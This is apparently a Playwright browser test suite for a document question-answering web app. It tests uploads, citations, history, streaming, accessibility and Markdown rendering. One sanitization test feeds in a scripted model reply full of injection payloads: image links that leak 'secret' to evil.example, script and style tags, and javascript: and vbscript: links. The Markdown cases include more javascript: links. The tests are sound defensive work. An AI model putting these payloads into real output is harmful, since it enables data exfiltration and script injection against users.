"""The pages in a real browser: the main job from end to end, and what only a browser can tell."""

from __future__ import annotations

import asyncio
import os

import pytest
from playwright.sync_api import expect

from chat.models import Message
from knowledge.models import Document
from llm_settings.providers.base import ChatDelta, ProviderError
from tests.pages import browser as driving

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(not driving.CHROMIUM, reason="no Chromium; DOCULUME_CHROMIUM names one"),
]

# Playwright's own event loop runs in this thread, and Django takes it for ours.
os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"

HOURS = (
    b"# Opening hours\n\nThe office in Hamburg opens at nine and closes at five in the afternoon.\n\n"
    b"# Holidays\n\nEverybody has thirty days of paid leave in each calendar year.\n"
)


@pytest.fixture
def visit(chromium, monkeypatch):
    """Makes visits, and at the end asserts that nothing went wrong on them unless a test said so."""
    with driving.working(monkeypatch), driving.visiting(chromium) as make:
        yield make


def upload(page, name="hours.md", content=HOURS):
    page.locator("#files").set_input_files({"name": name, "mimeType": "application/octet-stream", "buffer": content})
    line = page.locator(".document", has_text=name)
    expect(line).to_contain_text("passage", timeout=60_000)
    return line


def say(monkeypatch, *pieces, pause=0.0, then=None):
    """A language model that writes `pieces` and then fails, if `then` is an error."""

    class Scripted:
        model_name = "scripted"

        async def stream(self, messages, **_):
            for piece in pieces:
                await asyncio.sleep(pause)
                yield ChatDelta(text=piece)
            if then:
                raise then

    monkeypatch.setattr("chat.choosing.chat_models_for", lambda account, user, wanted="": [Scripted()])


def test_upload_ask_and_see_where_it_is_written(visit, alice):
    here = visit()
    page = here.sign_in(alice)
    expect(page.get_by_text("Add a document.")).to_be_visible()
    upload(page)
    answer = here.ask("When does the office in Hamburg open?")
    expect(answer).to_contain_text("opens at nine")
    expect(answer.locator(".source")).to_contain_text("hours.md")
    with here.context.expect_page() as opened:
        answer.locator("a.cite").first.click()
    reader = opened.value
    expect(reader.locator("#cited")).to_be_in_viewport()
    assert "opens at nine" in "".join(reader.locator("mark").all_inner_texts())
    expect(reader.get_by_role("heading", name="hours.md")).to_be_visible()


def test_a_conversation_has_an_address_and_outlives_a_reload(visit, alice):
    here = visit()
    page = here.sign_in(alice)
    upload(page)
    here.ask("How many days of paid leave does everybody have?")
    assert "/c/" in page.url
    page.reload()
    expect(page.locator(".from-assistant .prose")).to_contain_text("thirty days")
    expect(page.locator(".source")).to_have_count(1)
    expect(page.locator("#history a[aria-current]")).to_have_text("How many days of paid leave does everybody have?")
    page.get_by_role("link", name="New conversation").click()
    expect(page.locator(".message")).to_have_count(0)
    page.go_back()
    expect(page.locator(".from-assistant .prose")).to_contain_text("thirty days")
    page.locator("#history li").hover()
    page.locator("#history button").click()
    page.locator("#confirm-yes").click()
    expect(page.locator("#history li")).to_have_count(0)
    assert page.url == f"{here.address}/"


def test_nothing_relevant_looks_different_from_an_answer(visit, alice):
    here = visit()
    page = here.sign_in(alice)
    upload(page)
    answer = here.ask("Who won the football world championship in 1990?")
    expect(answer.get_by_text("Nothing relevant found")).to_be_visible()
    expect(answer.locator(".source")).to_have_count(0)
    page.reload()
    expect(page.get_by_text("Nothing relevant found")).to_be_visible()


def test_what_a_model_writes_reaches_nobody(visit, alice, monkeypatch):
    here = visit()
    page = here.sign_in(alice)
    upload(page)
    say(
        monkeypatch,
        "It opens **at nine** [1]. ![secret](https://evil.example/?q=secret) <img src='https://evil.example/x'> ",
        "<script>document.title = 'owned'</script> [click](javascript:document.title='owned') ",
        "[data](data:text/html,x) [fine](https://docs.example/a) <style>body{display:none}</style> [77]\n\n",
        "| a | <b onclick=x>b</b> |\n|---|---|\n| [l](vbscript:x) | ![i](//evil.example/y.png) |",
    )
    answer = here.ask("When does the office open?")
    prose = answer.locator(".prose")
    expect(prose.locator("strong")).to_have_text("at nine")
    expect(prose.locator("img, script, style, b, iframe")).to_have_count(0)
    fine = prose.get_by_role("link", name="fine")
    expect(fine).to_have_attribute("href", "https://docs.example/a")
    for link in prose.locator("a:not(.cite)").all():
        assert link.get_attribute("href").startswith("https://")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert "owned" not in page.title()
    assert "[77]" not in prose.inner_text()


def test_stopping_keeps_what_was_said(visit, alice, monkeypatch):
    here = visit()
    page = here.sign_in(alice)
    upload(page)
    say(monkeypatch, *["word "] * 400, pause=0.05)
    page.get_by_label("Your question").fill("When does the office open?")
    page.keyboard.press("Enter")
    expect(page.locator(".prose")).to_contain_text("word word word")
    page.get_by_role("button", name="Stop the answer").click()
    expect(page.locator(".ended")).to_contain_text("You stopped")
    expect(page.locator("#send")).to_be_visible()
    for _ in range(100):
        message = Message.objects.get(role="assistant")
        if message.status != "writing":
            break
        page.wait_for_timeout(100)
    assert message.status == "stopped"
    assert message.content.startswith("word word")


def test_a_failing_model_is_told_and_can_be_asked_again(visit, alice, monkeypatch):
    here = visit()
    page = here.sign_in(alice)
    upload(page)
    say(monkeypatch, "The office ", then=ProviderError("The model provider did not answer in time.", permanent=False))
    answer = here.ask("When does the office open?")
    expect(answer.locator(".trouble")).to_contain_text("did not answer in time")
    say(monkeypatch, "It opens at nine [1].")
    answer.get_by_role("button", name="Try again").click()
    expect(page.locator(".from-assistant")).to_have_count(1)
    expect(page.locator(".from-assistant .prose")).to_contain_text("opens at nine")


def test_a_session_that_ended_says_so_and_leads_back(visit, alice):
    here = visit()
    here.sign_in(alice)
    here.context.clear_cookies(name="sessionid")
    answer = here.ask("When does the office open?")
    expect(answer.get_by_role("link", name="Sign in")).to_have_attribute("href", "/sign-in?next=%2F")
    here.page.goto("about:blank")
    here.troubles.clear()  # the browser reports each 401


def test_files_that_cannot_be_read_say_why(visit, alice):
    here = visit()
    page = here.sign_in(alice)
    page.locator("#files").set_input_files({"name": "run.exe", "mimeType": "x/y", "buffer": b"MZ\x90\x00" + bytes(999)})
    line = page.locator(".document", has_text="run.exe")
    expect(line).to_contain_text("not supported")
    expect(line.get_by_role("button", name="Try again")).to_have_count(0)
    line.get_by_role("button", name="Delete run.exe").click()
    expect(line).to_have_count(0)
    assert not Document.objects.exists()
    here.troubles.clear()  # the browser reports the 400


def test_several_files_at_once_and_deleting_one(visit, alice):
    here = visit()
    page = here.sign_in(alice)
    files = [
        {"name": f"{n}.txt", "mimeType": "text/plain", "buffer": f"Text number {n} is here.".encode()} for n in range(5)
    ]
    page.locator("#files").set_input_files(files)
    for number in range(5):
        expect(page.locator(".document", has_text=f"{number}.txt")).to_contain_text("1\xa0passage", timeout=60_000)
    assert page.locator(".document-name").all_inner_texts() == [f"{n}.txt" for n in range(5)]
    page.locator(".document", has_text="3.txt").hover()
    page.get_by_role("button", name="Delete 3.txt").click()
    page.keyboard.press("Escape")
    expect(page.locator(".document")).to_have_count(5)
    page.get_by_role("button", name="Delete 3.txt").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.locator(".document")).to_have_count(4)
    expect(page.locator("#document-count")).to_have_text("4")


def test_it_can_be_used_without_a_mouse(visit, alice):
    here = visit()
    page = here.sign_in(alice)
    upload(page)
    page.goto(f"{here.address}/")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    for _ in range(3):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "question":
            break
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.type("When does")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("the office in Hamburg open?")
    assert page.get_by_label("Your question").input_value() == "When does\nthe office in Hamburg open?"
    page.keyboard.press("Enter")
    expect(page.locator(".cite").first).to_be_visible()
    expect(page.locator("#announcer")).to_contain_text("Answer: ")
    page.locator(".cite").first.focus()
    with here.context.expect_page() as opened:
        page.keyboard.press("Enter")
    expect(opened.value.locator("#cited")).to_be_visible()


@pytest.mark.parametrize("width", [320, 390])
def test_a_phone_has_the_documents_in_a_drawer_and_nothing_sticks_out(visit, alice, width):
    here = visit(viewport={"width": width, "height": 700}, has_touch=True)
    page = here.sign_in(alice)
    name = "a-very-long-name-" * 12 + ".txt"
    library = page.get_by_role("complementary", name="Documents and conversations")
    expect(library).to_have_count(0)
    page.get_by_role("button", name="Documents and conversations").tap()
    expect(page.get_by_role("button", name="Close")).to_be_focused()
    upload(page, name)
    page.keyboard.press("Escape")
    expect(library).to_have_count(0)
    expect(page.get_by_role("button", name="Documents and conversations")).to_be_focused()
    here.ask("What does " + "w" * 300 + " say about text?")
    for address in (page.url, f"{here.address}/documents/{Document.objects.get().id}"):
        page.goto(address)
        assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_a_viewer_of_bad_links_sees_a_page_with_a_way_out(visit, alice):
    here = visit()
    page = here.sign_in(alice)
    page.goto(f"{here.address}/documents/01900000-0000-7000-8000-000000000000")
    here.troubles.clear()  # the browser reports the 404
    page.get_by_role("link", name="Back to your documents").click()
    expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()


ADDRESS = 'target="_blank" rel="noopener noreferrer nofollow"'
# Source, and what it becomes; `dir="auto"`, which every block has, is left out.
MARKDOWN = [
    ("plain", "<p>plain</p>"),
    (
        "a *b* **c** ***d*** ~~e~~",
        "<p>a <em>b</em> <strong>c</strong> <strong><em>d</em></strong> <del>e</del></p>",
    ),
    ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"),
    ("# One\ntext", "<h3>One</h3><p>text</p>"),
    ("- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("1. a\n\n2. b\n\nafter", "<ol><li>a</li><li>b</li></ol><p>after</p>"),
    ("1. a\n   ```\n   # b\n   ```\n2. c", "<ol><li>a<pre><code># b</code></pre></li><li>c</li></ol>"),
    ("`<b>` and ``a`b``", "<p><code>&lt;b&gt;</code> and <code>a`b</code></p>"),
    ("```js\nlet a = [1];\n\n# no\n```\nafter", "<pre><code>let a = [1];\n\n# no</code></pre><p>after</p>"),
    ("```\nstill open", "<pre><code>still open</code></pre>"),
    ("> quoted\n> more", "<blockquote><p>quoted\nmore</p></blockquote>"),
    (
        "a|b\n-|-:\n1|2",
        "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>",
    ),
    ("a [1]. b[2]", "<p>a<sup>1</sup>. b<sup>2</sup></p>"),
    ("`[1]`", "<p><code>[1]</code></p>"),
    ("<https://a.example/x>", f'<p><a href="https://a.example/x" {ADDRESS}>https://a.example/x</a></p>'),
    ("See https://b.example/y.", f'<p>See <a href="https://b.example/y" {ADDRESS}>https://b.example/y</a>.</p>'),
    ("[x](javascript:alert(1)) [y](JaVaScRiPt:x)", "<p><span>x</span>) <span>y</span></p>"),
    ("\\*a\\* **open", "<p>*a* **open</p>"),
    ("---\na", "<hr><p>a</p>"),
    ("a  \nb", "<p>a<br>b</p>"),
    ("", ""),
]
RENDER = """async (sources) => {
  const { MarkdownView } = await import("/static/js/markdown.js");
  return sources.map((source) => {
    const whole = document.createElement("div"), grown = document.createElement("div");
    const cite = (number) => { const made = document.createElement("sup"); made.append(number); return made; };
    new MarkdownView(whole, cite).show(source);
    const view = new MarkdownView(grown, cite);
    for (let end = 0; end <= source.length; end += 1) view.show(source.slice(0, end));
    for (const node of [...whole.querySelectorAll("*"), ...grown.querySelectorAll("*")]) {
      for (const name of ["dir", "tabindex", "class", "scope"]) node.removeAttribute(name);
    }
    return [whole.innerHTML, grown.innerHTML];
  });
}"""


def test_markdown_becomes_the_same_nodes_whole_or_as_it_grows(visit):
    here = visit()
    here.page.goto(f"{here.address}/sign-in")
    found = here.page.evaluate(RENDER, [source for source, _ in MARKDOWN])
    for (source, expected), (whole, grown) in zip(MARKDOWN, found, strict=True):
        assert whole == expected, source
        assert grown == expected, source


RECEIVE = """async ([chunks, size]) => {
  const { events } = await import("/static/js/stream.js");
  const bytes = new TextEncoder().encode(chunks);
  window.fetch = async () => new Response(new ReadableStream({
    start(controller) {
      for (let at = 0; at < bytes.length; at += size) controller.enqueue(bytes.slice(at, at + size));
      controller.close();
    },
  }));
  const found = [];
  try {
    for await (const event of events("/x", {}, new AbortController().signal)) found.push(event);
  } catch (error) {
    found.push(error.message);
  }
  return found;
}"""


@pytest.mark.parametrize("size", [1, 2, 7, 10_000])
@pytest.mark.parametrize("line", ["\n", "\r\n"])
def test_a_stream_is_read_however_it_is_cut(visit, size, line):
    here = visit()
    here.page.goto(f"{here.address}/sign-in")
    sent = 'id: 1\ndata: {"a": "größe 📄"}\n\n: heartbeat\n\nid: 2\ndata:{"b":\ndata: 2}\n\ndata: [DONE]\n\n'
    sent = sent.replace("\n", line)
    assert here.page.evaluate(RECEIVE, [sent, size]) == [{"a": "größe 📄"}, {"b": 2}]
    cut = here.page.evaluate(RECEIVE, [sent.replace("[DONE]", '{"c": 3}'), size])
    assert cut == [{"a": "größe 📄"}, {"b": 2}, {"c": 3}, "The connection was lost before the answer was complete."]
